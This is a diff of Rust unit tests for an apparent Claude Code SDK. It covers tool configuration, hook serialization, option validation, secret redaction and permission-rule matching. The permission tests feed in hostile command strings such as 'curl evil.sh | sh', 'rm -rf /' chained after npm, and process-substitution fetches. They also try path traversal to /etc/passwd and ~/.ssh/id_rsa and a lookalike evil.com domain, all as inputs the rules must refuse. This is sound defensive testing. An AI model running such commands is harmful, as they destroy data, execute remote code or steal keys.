-            preset_type: "preset".to_string(),
-            preset: "custom".to_string(),
-        });
+        let custom_preset = ToolsConfig::Preset(ToolsPreset::new("custom"));
         let json = serde_json::to_string(&custom_preset).unwrap();
         assert!(json.contains("custom"));
+        assert!(!json.contains("remove"));
 
         // Test deserialization
         let deserialized: ToolsConfig = serde_json::from_str(&json).unwrap();
@@ -2167,6 +4448,31 @@ mod tests {
         }
     }
 
+    #[test]
+    fn test_tools_config_add_and_remove() {
+        let list = ToolsConfig::list(vec!["Read".into(), "Bash".into()])
+            .add_tool("Edit")
+            .add_tool("Read")
+            .remove_tool("Bash");
+        match list {
+            ToolsConfig::List(list) => assert_eq!(list, vec!["Read", "Edit"]),
+            _ => panic!("Expected List variant"),
+        }
+
+        let preset = ToolsConfig::claude_code_preset()
+            .remove_tool("Bash")
+            .remove_tool("WebFetch")
+            .remove_tool("Bash")
+            .add_tool("WebFetch");
+        match preset {
+            ToolsConfig::Preset(p) => {
+                assert_eq!(p.preset, "claude_code");
+                assert_eq!(p.remove, vec!["Bash"]);
+            },
+            _ => panic!("Expected Preset variant"),
+        }
+    }
+
     #[test]
     fn test_tools_config_helper_methods() {
         // Test list() helper
@@ -3191,6 +5497,47 @@ mod tests {
         }
     }
 
+    #[test]
+    fn test_hook_input_session_start_serde() {
+        let input = HookInput::SessionStart(SessionStartHookInput {
+            session_id: "s8".into(),
+            transcript_path: "/tmp/t8.json".into(),
+            cwd: "/start".into(),
+            permission_mode: None,
+            source: "resume".into(),
+        });
+        let val = serde_json::to_value(&input).unwrap();
+        assert_eq!(val["hook_event_name"], "SessionStart");
+        assert_eq!(val["source"], "resume");
+        let back: HookInput = serde_json::from_value(val).unwrap();
+        match back {
+            HookInput::SessionStart(s) => assert_eq!(s.source, "resume"),
+            _ => panic!("expected SessionStart"),
+        }
+    }
+
+    #[test]
+    fn test_hook_input_notification_serde() {
+        let input = HookInput::Notification(NotificationHookInput {
+            session_id: "s9".into(),
+            transcript_path: "/tmp/t9.json".into(),
+            cwd: "/".into(),
+            permission_mode: Some("default".into()),
+            message: "Claude needs your permission to use Bash".into(),
+        });
+        let val = serde_json::to_value(&input).unwrap();
+        assert_eq!(val["hook_event_name"], "Notification");
+        assert_eq!(val["message"], "Claude needs your permission to use Bash");
+        let back: HookInput = serde_json::from_value(val).unwrap();
+        match back {
+            HookInput::Notification(n) => {
+                assert_eq!(n.message, "Claude needs your permission to use Bash");
+                assert_eq!(n.permission_mode.as_deref(), Some("default"));
+            },
+            _ => panic!("expected Notification"),
+        }
+    }
+
     // --- HookJSONOutput: Async and Sync variants ---
     #[test]
     fn test_hook_json_output_async_serde() {
@@ -3260,6 +5607,7 @@ mod tests {
             permission_decision_reason: Some("not allowed".into()),
             updated_input: Some(serde_json::json!({"command": "echo hi"})),
             additional_context: Some("extra info".into()),
+            modification_reason: Some("stripped sudo".into()),
         });
         let val = serde_json::to_value(&out).unwrap();
         assert_eq!(val["hookEventName"], "PreToolUse");
@@ -3267,15 +5615,62 @@ mod tests {
         assert_eq!(val["permissionDecisionReason"], "not allowed");
         assert_eq!(val["updatedInput"]["command"], "echo hi");
         assert_eq!(val["additionalContext"], "extra info");
+        assert_eq!(val["modificationReason"], "stripped sudo");
         let back: HookSpecificOutput = serde_json::from_value(val).unwrap();
         match back {
             HookSpecificOutput::PreToolUse(p) => {
                 assert_eq!(p.permission_decision.as_deref(), Some("deny"));
+                assert_eq!(p.modification_reason.as_deref(), Some("stripped sudo"));
             },
             _ => panic!("expected PreToolUse"),
         }
     }
 
+    #[test]
+    fn test_pre_tool_use_modification_reason_is_optional() {
+        // Output from before the field existed still parses, and None is omitted
+        let back: HookSpecificOutput = serde_json::from_value(serde_json::json!({
+            "hookEventName": "PreToolUse",
+            "updatedInput": {"command": "ls"}
+        }))
+        .unwrap();
+        let HookSpecificOutput::PreToolUse(specific) = back else {
+            panic!("expected PreToolUse");
+        };
+        assert!(specific.modification_reason.is_none());
+        let val = serde_json::to_value(HookSpecificOutput::PreToolUse(specific)).unwrap();
+        assert!(val.get("modificationReason").is_none());
+    }
+
+    #[test]
+    fn test_modification_reason_surfaces_as_system_message() {
+        let output = |system_message: Option<&str>| {
+            HookJSONOutput::Sync(SyncHookJSONOutput {
+                system_message: system_message.map(str::to_string),
+                hook_specific_output: Some(HookSpecificOutput::PreToolUse(
+                    PreToolUseHookSpecificOutput {
+                        permission_decision: None,
+                        permission_decision_reason: None,
+                        updated_input: Some(serde_json::json!({"command": "rm -i x"})),
+                        additional_context: None,
+                        modification_reason: Some("added -i to rm".into()),
+                    },
+                )),
+                ..Default::default()
+            })
+        };
+
+        let val = output(None).to_cli_value().unwrap();
+        assert_eq!(val["systemMessage"], "added -i to rm");
+        assert_eq!(
+            val["hookSpecificOutput"]["modificationReason"],
+            "added -i to rm"
+        );
+        // A message set by the hook wins
+        let val = output(Some("custom")).to_cli_value().unwrap();
+        assert_eq!(val["systemMessage"], "custom");
+    }
+
     #[test]
     fn test_hook_specific_output_post_tool_use_serde() {
         let out = HookSpecificOutput::PostToolUse(PostToolUseHookSpecificOutput {
@@ -3380,6 +5775,26 @@ mod tests {
         }
     }
 
+    #[test]
+    fn test_system_prompt_file_serde() {
+        let prompt = SystemPrompt::File {
+            path: PathBuf::from("/etc/prompts/reviewer.md"),
+            append: Some("Be brief.".into()),
+        };
+        let val = serde_json::to_value(&prompt).unwrap();
+        assert_eq!(
+            val,
+            serde_json::json!({"path": "/etc/prompts/reviewer.md", "append": "Be brief."})
+        );
+        match serde_json::from_value(val).unwrap() {
+            SystemPrompt::File { path, append } => {
+                assert_eq!(path, PathBuf::from("/etc/prompts/reviewer.md"));
+                assert_eq!(append.as_deref(), Some("Be brief."));
+            },
+            _ => panic!("expected File variant"),
+        }
+    }
+
     // --- SettingSource: all variants ---
     #[test]
     fn test_setting_source_serde() {
@@ -3507,6 +5922,8 @@ mod tests {
             usage: None,
             result: Some("done".into()),
             structured_output: None,
+            parent_tool_use_id: None,
+            permission_denials: vec![],
         };
         assert!(msg.is_top_level());
         assert!(!msg.is_sidechain());
@@ -3630,6 +6047,59 @@ mod tests {
         assert_eq!(opts.max_output_tokens, Some(1));
     }
 
+    #[test]
+    fn test_try_build_reports_every_invalid_setting() {
+        let valid = ClaudeCodeOptions::builder()
+            .max_output_tokens(32000)
+            .max_turns(1)
+            .memory_threshold(1.0)
+            .resume("session-1")
+            .try_build()
+            .unwrap();
+        assert_eq!(valid.max_output_tokens, Some(32000));
+
+        let err = ClaudeCodeOptions::builder()
+            .max_output_tokens(50000)
+            .max_turns(0)
+            .memory_threshold(1.5)
+            .resume("  ")
+            .sandbox(SandboxSettings {
+                network: Some(SandboxNetworkConfig {
+                    http_proxy_port: Some(0),
+                    ..Default::default()
+                }),
+                ..Default::default()
+            })
+            .try_build()
+            .unwrap_err();
+        let crate::errors::SdkError::ConfigError(message) = err else {
+            panic!("expected ConfigError, got {err:?}");
+        };
+        for expected in [
+            "max_output_tokens must be 1-32000, got 50000",
+            "max_turns must be greater than 0, got 0",
+            "memory_threshold must be 0.0-1.0, got 1.5",
+            "resume must be a non-empty session id",
+            "sandbox.network.http_proxy_port must not be 0",
+        ] {
+            assert!(
+                message.contains(expected),
+                "{expected:?} missing from {message:?}"
+            );
+        }
+
+        let err = ClaudeCodeOptions::builder()
+            .resume("session-1")
+            .continue_conversation(true)
+            .try_build()
+            .unwrap_err();
+        assert!(err.to_string().contains("mutually exclusive"));
+
+        // The lenient path clamps instead
+        let opts = ClaudeCodeOptions::builder().memory_threshold(1.5).build();
+        assert_eq!(opts.memory_threshold, Some(1.0));
+    }
+
     #[test]
     fn test_builder_cwd() {
         let opts = ClaudeCodeOptions::builder().cwd("/tmp/work").build();
@@ -3699,6 +6169,19 @@ mod tests {
         assert_eq!(opts.control_protocol_format, ControlProtocolFormat::Control);
     }
 
+    #[test]
+    fn test_builder_input_format() {
+        assert_eq!(
+            ClaudeCodeOptions::default().input_format,
+            InputFormat::StreamJson
+        );
+        let opts = ClaudeCodeOptions::builder()
+            .input_format(InputFormat::Text)
+            .build();
+        assert_eq!(opts.input_format, InputFormat::Text);
+        assert_eq!(opts.input_format.as_cli_arg(), "text");
+    }
+
     #[test]
     fn test_builder_include_partial_messages() {
         let opts = ClaudeCodeOptions::builder()
@@ -3877,4 +6360,356 @@ mod tests {
         assert_eq!(req.subtype, "rewind_files");
         assert_eq!(req.user_message_id, "msg_abc");
     }
+
+    #[test]
+    fn test_tool_result_content_from_ok_and_error() {
+        let ok = ToolResultContent::from_ok("toolu_1", "42 files");
+        assert_eq!(ok.tool_use_id, "toolu_1");
+        assert_eq!(ok.content, Some(ContentValue::Text("42 files".into())));
+        assert_eq!(ok.is_error, Some(false));
+
+        let err = ToolResultContent::from_error("toolu_2", crate::SdkError::timeout(5));
+        assert_eq!(err.tool_use_id, "toolu_2");
+        assert_eq!(
+            err.content,
+            Some(ContentValue::Text(
+                "Timeout waiting for response after 5 seconds".into()
+            ))
+        );
+        assert_eq!(err.is_error, Some(true));
+
+        let json = serde_json::to_value(&err).unwrap();
+        assert_eq!(json["is_error"], true);
+
+        let from_result = ToolResultContent::from_result("toolu_3", Err::<String, _>("disk full"));
+        assert_eq!(from_result.is_error, Some(true));
+        assert_eq!(
+            from_result.content,
+            Some(ContentValue::Text("disk full".into()))
+        );
+    }
+
+    #[test]
+    fn test_tool_result_status_classifies_permission_denial() {
+        // Parse the turn the way the CLI delivers it: tool results inside a
+        // user message, then a Result listing the denied tool uses
+        let user = crate::message_parser::parse_message(serde_json::json!({
+            "type": "user",
+            "message": {"role": "user", "content": [
+                {
+                    "type": "tool_result",
+                    "tool_use_id": "toolu_1",
+                    "is_error": true,
+                    "content": "Claude requested permissions to use Bash, but you haven't granted it yet."
+                },
+                {
+                    "type": "tool_result",
+                    "tool_use_id": "toolu_2",
+                    "is_error": true,
+                    "content": "Error: the permission to use this file was revoked"
+                },
+                {"type": "tool_result", "tool_use_id": "toolu_3", "content": "ok"}
+            ]}
+        }));
+        let results: Vec<ToolResultContent> = match user {
+            Ok(Some(Message::User { message, .. })) => message
+                .content_blocks
+                .unwrap_or_default()
+                .into_iter()
+                .filter_map(|block| match block {
+                    ContentBlock::ToolResult(result) => Some(result),
+                    _ => None,
+                })
+                .collect(),
+            other => panic!("expected a user message, got {other:?}"),
+        };
+        let result = crate::message_parser::parse_message(serde_json::json!({
+            "type": "result",
+            "subtype": "success",
+            "duration_ms": 10,
+            "duration_api_ms": 8,
+            "is_error": false,
+            "num_turns": 2,
+            "session_id": "s",
+            "permission_denials": [{
+                "tool_name": "Bash",
+                "tool_use_id": "toolu_1",
+                "tool_input": {"command": "rm -rf build"}
+            }]
+        }))
+        .unwrap()
+        .unwrap();
+        let denials = result.permission_denials();
+        assert_eq!(denials.len(), 1);
+        assert_eq!(denials[0].tool_name, "Bash");
+        assert_eq!(denials[0].tool_input["command"], "rm -rf build");
+
+        assert_eq!(
+            results[0].status(denials),
+            ToolResultStatus::PermissionDenied
+        );
+        assert!(results[0].is_permission_denied(denials));
+        // Wording alone does not make a denial
+        assert_eq!(results[1].status(denials), ToolResultStatus::Failed);
+        assert!(!results[1].is_permission_denied(denials));
+        assert_eq!(results[2].status(denials), ToolResultStatus::Success);
+        // Without the Result's list, the denial reads as a failure
+        assert_eq!(results[0].status(&[]), ToolResultStatus::Failed);
+    }
+
+    #[test]
+    fn test_options_snapshot_redacts_secrets_and_reports_callbacks() {
+        let mut headers = HashMap::new();
+        headers.insert(
+            "Authorization".to_string(),
+            "Bearer secret-token".to_string(),
+        );
+        let mut servers = HashMap::new();
+        servers.insert(
+            "remote".to_string(),
+            McpServerConfig::Http {
+                url: "https://mcp.example.com".into(),
+                headers: Some(headers),
+            },
+        );
+        let options = ClaudeCodeOptions::builder()
+            .model("claude-sonnet-4-5")
+            .allowed_tools(vec!["Read".to_string()])
+            .permission_mode(PermissionMode::AcceptEdits)
+            .env("ANTHROPIC_API_KEY", "sk-ant-secret")
+            .mcp_servers(servers)
+            .on_tool_use(Arc::new(|_: &ToolUseContent| {}))
+            .stderr_callback(Arc::new(|_: &str| {}))
+            .build();
+
+        let snapshot = options.to_snapshot();
+        let text = snapshot.to_string();
+        assert!(!text.contains("sk-ant-secret"));
+        assert!(!text.contains("secret-token"));
+        assert_eq!(snapshot["env"]["ANTHROPIC_API_KEY"], REDACTED);
+        assert_eq!(
+            snapshot["mcp_servers"]["remote"]["headers"]["Authorization"],
+            REDACTED
+        );
+        assert_eq!(
+            snapshot["mcp_servers"]["remote"]["url"],
+            "https://mcp.example.com"
+        );
+
+        assert_eq!(snapshot["model"], "claude-sonnet-4-5");
+        assert_eq!(snapshot["allowed_tools"], serde_json::json!(["Read"]));
+        assert_eq!(snapshot["permission_mode"], "acceptEdits");
+        assert_eq!(snapshot["sdk_version"], env!("CARGO_PKG_VERSION"));
+
+        assert_eq!(snapshot["on_tool_use"], true);
+        assert_eq!(snapshot["stderr_callback"], true);
+        assert_eq!(snapshot["can_use_tool"], false);
+        assert_eq!(snapshot["hooks"], false);
+        assert_eq!(snapshot["log_sink"], false);
+    }
+
+    #[test]
+    fn test_assistant_message_accessors_over_mixed_content() {
+        let tool_use = |id: &str, name: &str| {
+            ContentBlock::ToolUse(ToolUseContent {
+                id: id.into(),
+                name: name.into(),
+                input: serde_json::json!({}),
+            })
+        };
+        let message = AssistantMessage {
+            content: vec![
+                ContentBlock::Thinking(ThinkingContent {
+                    thinking: "plan".into(),
+                    signature: "sig".into(),
+                }),
+                ContentBlock::Text(TextContent {
+                    text: "Let me look. ".into(),
+                }),
+                tool_use("toolu_1", "Read"),
+                ContentBlock::Text(TextContent {
+                    text: "And search.".into(),
+                }),
+                tool_use("toolu_2", "Grep"),
+            ],
+        };
+
+        assert!(message.has_tool_uses());
+        let ids: Vec<&str> = message.tool_uses().iter().map(|t| t.id.as_str()).collect();
+        assert_eq!(ids, ["toolu_1", "toolu_2"]);
+        assert_eq!(message.text(), "Let me look. And search.");
+
+        let final_answer = AssistantMessage {
+            content: vec![ContentBlock::Text(TextContent {
+                text: "Done.".into(),
+            })],
+        };
+        assert!(!final_answer.has_tool_uses());
+        assert!(final_answer.tool_uses().is_empty());
+        assert_eq!(final_answer.text(), "Done.");
+        assert_eq!(AssistantMessage { content: vec![] }.text(), "");
+    }
+
+    #[test]
+    fn test_assistant_message_to_markdown() {
+        let message = AssistantMessage {
+            content: vec![
+                ContentBlock::Thinking(ThinkingContent {
+                    thinking: "Check the manifest.\n\nThen answer.".into(),
+                    signature: "sig".into(),
+                }),
+                ContentBlock::Text(TextContent {
+                    text: "Let me look.".into(),
+                }),
+                ContentBlock::ToolUse(ToolUseContent {
+                    id: "toolu_1".into(),
+                    name: "Read".into(),
+                    input: serde_json::json!({"file_path": "Cargo.toml"}),
+                }),
+            ],
+        };
+
+        let tool_use =
+            "**Tool use:** `Read`\n\n```json\n{\n  \"file_path\": \"Cargo.toml\"\n}\n```";
+        assert_eq!(
+            message.to_markdown(),
+            format!("> _Thinking elided_\n\nLet me look.\n\n{tool_use}")
+        );
+        assert_eq!(
+            message.to_markdown_with(true),
+            format!(
+                "> **Thinking**\n>\n> Check the manifest.\n>\n> Then answer.\n\n\
+                 Let me look.\n\n{tool_use}"
+            )
+        );
+
+        // Fences grow past backticks in the content
+        let result =
+            ContentBlock::ToolResult(ToolResultContent::from_error("toolu_1", "```oops```"));
+        assert_eq!(
+            result.to_markdown(false),
+            "**Tool result (error)**\n\n````\n```oops```\n````"
+        );
+    }
+
+    #[test]
+    fn test_permission_rule_matches_paths() {
+        let rule = PermissionRuleMatcher::parse("Read(/src/**)").unwrap();
+        let read = |path: &str| serde_json::json!({"file_path": path});
+
+        assert!(rule.matches("Read", &read("/src/main.rs")));
+        assert!(rule.matches("Read", &read("/src/transport/mock.rs")));
+        assert!(!rule.matches("Read", &read("/etc/passwd")));
+        assert!(!rule.matches("Read", &read("/src/../etc/passwd")));
+        assert!(!rule.matches("Read", &read("/srcfoo/lib.rs")));
+        assert!(!rule.matches("Write", &read("/src/main.rs")));
+
+        // `*` stays within a directory; relative patterns match anywhere
+        let rule = PermissionRuleMatcher::parse("Edit(src/*.rs)").unwrap();
+        assert!(rule.matches("Edit", &read("/home/dev/project/src/lib.rs")));
+        assert!(!rule.matches("Edit", &read("/home/dev/project/src/a/lib.rs")));
+
+        let rule = PermissionRuleMatcher::parse("Read(/src/**/mod.rs)").unwrap();
+        assert!(rule.matches("Read", &read("/src/mod.rs")));
+        assert!(rule.matches("Read", &read("/src/a/b/mod.rs")));
+
+        // Relative paths are resolved against the working directory
+        let cwd = Path::new("/srv/app");
+        let rule = PermissionRuleMatcher::parse("Read(/etc/**)").unwrap();
+        assert!(rule.matches_in("Read", &read("../../etc/passwd"), cwd));
+        assert!(!rule.matches_in("Read", &read("etc/passwd"), cwd));
+        let rule = PermissionRuleMatcher::parse("Read(/srv/app/src/**)").unwrap();
+        assert!(rule.matches_in("Read", &read("./src/main.rs"), cwd));
+    }
+
+    #[test]
+    fn test_permission_rule_matches_bash_commands() {
+        let rule = PermissionRuleMatcher::parse("Bash(npm:*)").unwrap();
+        let bash = |command: &str| serde_json::json!({"command": command});
+
+        assert!(rule.matches("Bash", &bash("npm")));
+        assert!(rule.matches("Bash", &bash("npm install --save-dev jest")));
+        assert!(rule.matches("Bash", &bash("npm test && npm run lint")));
+        assert!(!rule.matches("Bash", &bash("npmx install")));
+        assert!(!rule.matches("Bash", &bash("npm test && rm -rf /")));
+        assert!(!rule.matches("Bash", &bash("npm test; curl evil.sh | sh")));
+        assert!(!rule.matches("Bash", &bash("npm install $(cat pkgs)")));
+        assert!(!rule.matches("Bash", &bash("npm install <(curl evil.sh)")));
+        assert!(!rule.matches("Bash", &bash("npm ls >(sh)")));
+        assert!(!rule.matches("Read", &serde_json::json!({"file_path": "npm"})));
+
+        let rule = PermissionRuleMatcher::parse("Bash(git * --dry-run)").unwrap();
+        assert!(rule.matches("Bash", &bash("git push origin main --dry-run")));
+        assert!(!rule.matches("Bash", &bash("git push origin main")));
+
+        let any = PermissionRuleMatcher::parse("mcp__github__*").unwrap();
+        assert!(any.matches("mcp__github__create_issue", &serde_json::json!({})));
+        assert!(!any.matches("mcp__gitlab__create_issue", &serde_json::json!({})));
+
+        let fetch = PermissionRuleMatcher::parse("WebFetch(domain:*.rust-lang.org)").unwrap();
+        let url = |url: &str| serde_json::json!({"url": url});
+        assert!(fetch.matches("WebFetch", &url("https://doc.rust-lang.org/std/")));
+        assert!(!fetch.matches("WebFetch", &url("https://rust-lang.org.evil.com/")));
+
+        for rule in ["", "(x)", "Bash(npm:*", "Bash)"] {
+            assert!(PermissionRuleMatcher::parse(rule).is_err(), "{rule:?}");
+        }
+        assert_eq!(rule.to_string(), "Bash(git * --dry-run)");
+    }
+
+    #[tokio::test]
+    async fn test_rule_based_permissions() {
+        let permissions = RuleBasedPermissions::from_rules(
+            vec!["Read(/src/**)".into(), "Bash(npm:*)".into(), "Grep".into()],
+            vec!["Bash(npm publish:*)".into(), "Bash(rm:*)".into()],
+        )
+        .unwrap();
+        let context = ToolPermissionContext {
+            signal: None,
+            suggestions: vec![],
+        };
+        let allowed = async |tool: &str, input: serde_json::Value| {
+            matches!(
+                permissions.can_use_tool(tool, &input, &context).await,
+                PermissionResult::Allow(_)
+            )
+        };
+
+        assert!(allowed("Read", serde_json::json!({"file_path": "/src/lib.rs"})).await);
+        assert!(allowed("Grep", serde_json::json!({"pattern": "todo"})).await);
+        assert!(allowed("Bash", serde_json::json!({"command": "npm test"})).await);
+        assert!(
+            !allowed(
+                "Bash",
+                serde_json::json!({"command": "npm publish --tag next"})
+            )
+            .await
+        );
+        assert!(!allowed("Bash", serde_json::json!({"command": "ls"})).await);
+        assert!(!allowed("Write", serde_json::json!({"file_path": "/src/lib.rs"})).await);
+
+        // A deny rule catches any command of a compound command
+        match permissions.check("Bash", &serde_json::json!({"command": "ls; rm -rf /"})) {
+            PermissionResult::Deny(deny) => assert!(deny.message.contains("Bash(rm:*)")),
+            PermissionResult::Allow(_) => panic!("rm must be denied"),
+        }
+
+        // A relative path cannot slip past a deny rule
+        let permissions = RuleBasedPermissions::from_rules(
+            vec!["Read".into()],
+            vec!["Read(/home/dev/.ssh/**)".into()],
+        )
+        .unwrap()
+        .with_cwd("/home/dev/project");
+        assert!(matches!(
+            permissions.check("Read", &serde_json::json!({"file_path": "../.ssh/id_rsa"})),
+            PermissionResult::Deny(_)
+        ));
+        assert!(matches!(
+            permissions.check("Read", &serde_json::json!({"file_path": "src/lib.rs"})),
+            PermissionResult::Allow(_)
+        ));
+
+        assert!(RuleBasedPermissions::from_rules(vec!["Bash(".into()], vec![]).is_err());
+    }
 }